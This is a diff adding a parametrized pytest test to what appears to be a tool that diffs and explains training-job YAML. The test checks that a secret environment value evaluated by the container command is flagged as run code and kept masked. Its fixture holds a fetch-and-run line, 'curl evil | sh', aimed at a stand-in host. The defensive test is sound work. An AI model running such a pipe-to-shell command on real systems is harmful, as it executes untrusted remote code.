@@ -221,6 +221,21 @@ def test_a_review_shows_that_a_masked_value_changes(form: str, tmp_path: Path) -
     assert shown[form] in out
 
 
+@pytest.mark.parametrize("command", ["diff old new", "diff old new --format json", "explain new", "pods new"])
+def test_a_secret_that_a_command_runs_is_named_as_run(
+    command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    for name, value in (("old", "make"), ("new", "curl evil | sh")):
+        env = [{"name": "SETUP_TOKEN", "value": value}]
+        trainer = {"image": "a:1", "env": env, "command": ["sh", "-c", 'eval "$SETUP_TOKEN"']}
+        (tmp_path / name).mkdir()
+        (tmp_path / name / "a.yaml").write_text(yaml.safe_dump(JOB | {"spec": JOB["spec"] | {"trainer": trainer}}))
+    out = run(*command.split()).out
+    assert "(run as code)" in out
+    assert "evil" not in out
+
+
 # No output shows a secret of a patch. SECRET is only written where a name in the patch or in its pointer marks it.
 SECRET: Final = "hunter2"
 T: Final = "/spec/trainer"
